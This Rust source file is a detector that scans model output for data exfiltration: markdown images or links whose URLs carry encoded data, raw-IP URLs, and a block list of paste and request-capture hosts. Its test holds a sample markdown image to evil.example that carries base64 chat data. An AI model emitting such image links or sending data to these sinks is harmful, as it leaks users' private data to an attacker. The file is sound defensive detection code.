//! Output exfiltration: markdown images and links whose URLs carry data
//! (a rendered image is fetched with no click), and URLs to raw IP addresses
//! or paste and request-capture sites.

use std::sync::LazyLock;

use regex::Regex;

use crate::finding::{Finding, quote};

static MD: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(!?)\[[^\]\n]{0,200}\]\(\s*<?(https?://[^)\s>]+)").unwrap());
static URL: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"https?://[^\s)<>\]'`]+").unwrap());

const PASTE_HOSTS: &[&str] = &[
    "pastebin.com",
    "paste.ee",
    "hastebin.com",
    "ghostbin.com",
    "termbin.com",
    "transfer.sh",
    "0x0.st",
    "rentry.co",
    "dpaste.org",
    "paste.rs",
    "webhook.site",
    "requestbin.com",
    "pipedream.net",
    "ngrok.io",
    "ngrok-free.app",
    "interact.sh",
    "oast.fun",
    "burpcollaborator.net",
    "beeceptor.com",
    "hookbin.com",
];

fn host(url: &str) -> &str {
    let rest = url.split_once("://").map(|x| x.1).unwrap_or(url);
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let h = &rest[..end];
    let h = h.rsplit_once('@').map(|x| x.1).unwrap_or(h);
    if h.starts_with('[') {
        h.split_once(']').map(|x| x.0).unwrap_or(h).trim_start_matches('[')
    } else {
        h.split(':').next().unwrap_or(h)
    }
}

fn raw_ip(h: &str) -> bool {
    h.parse::<std::net::IpAddr>().is_ok()
}

/// A URL that carries data: a long query value, a long opaque path segment,
/// or an unexpanded template.
fn carries_data(url: &str) -> Option<&'static str> {
    let (path, query) = url.split_once('?').unwrap_or((url, ""));
    if url.contains('{') || url.contains("$(") || url.contains("${") {
        return Some("a template placeholder");
    }
    for kv in query.split('&') {
        let v = kv.split_once('=').map(|x| x.1).unwrap_or(kv);
        if v.len() >= 24 {
            return Some("a long query value");
        }
    }
    let segs = path.split_once("://").map(|x| x.1).unwrap_or(path).split('/').skip(1);
    for s in segs {
        let alnum = s.bytes().filter(u8::is_ascii_alphanumeric).count();
        if s.len() >= 40 && alnum * 10 >= s.len() * 9 && s.bytes().any(|b| b.is_ascii_digit()) {
            return Some("a long encoded path segment");
        }
    }
    None
}

pub fn scan(text: &str) -> Vec<Finding> {
    let mut out = Vec::new();
    if !text.contains("http") {
        return out;
    }
    for c in MD.captures_iter(text) {
        let whole = c.get(0).unwrap();
        let url = c.get(2).unwrap().as_str();
        let image = !c[1].is_empty();
        let kind = if image { "markdown_image" } else { "markdown_link" };
        if let Some(why) = carries_data(url) {
            out.push(Finding {
                detector: "exfiltration",
                kind: kind.into(),
                start: whole.start(),
                end: whole.end(),
                score: if image { 0.9 } else { 0.6 },
                evidence: format!("{} to {} with {why}", kind.replace('_', " "), host(url)),
            });
        }
    }
    for m in URL.find_iter(text) {
        let h = host(m.as_str()).to_ascii_lowercase();
        let (kind, why, score) = if raw_ip(&h) {
            ("raw_ip_url", "a URL to a raw IP address", 0.6)
        } else if PASTE_HOSTS
            .iter()
            .any(|p| h.strip_suffix(p).is_some_and(|rest| rest.is_empty() || rest.ends_with('.')))
        {
            ("paste_site_url", "a URL to a paste or request-capture site", 0.7)
        } else {
            continue;
        };
        if out.iter().any(|f| f.start <= m.start() && m.end() <= f.end && f.kind.starts_with("markdown")) {
            continue;
        }
        out.push(Finding {
            detector: "exfiltration",
            kind: kind.into(),
            start: m.start(),
            end: m.end(),
            score,
            evidence: format!("{why}: {}", quote(text, m.start(), m.end())),
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn data_carrying_images_and_sinks() {
        let f = scan("Done! ![](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA)");
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].kind, "markdown_image");
        assert_eq!(scan("see http://203.0.113.9/x")[0].kind, "raw_ip_url");
        assert_eq!(scan("posted to https://pastebin.com/raw/abc")[0].kind, "paste_site_url");
        // An ordinary image and link carry nothing.
        assert!(scan("![logo](https://example.com/logo.png) and [docs](https://docs.rs/regex)").is_empty());
    }
}
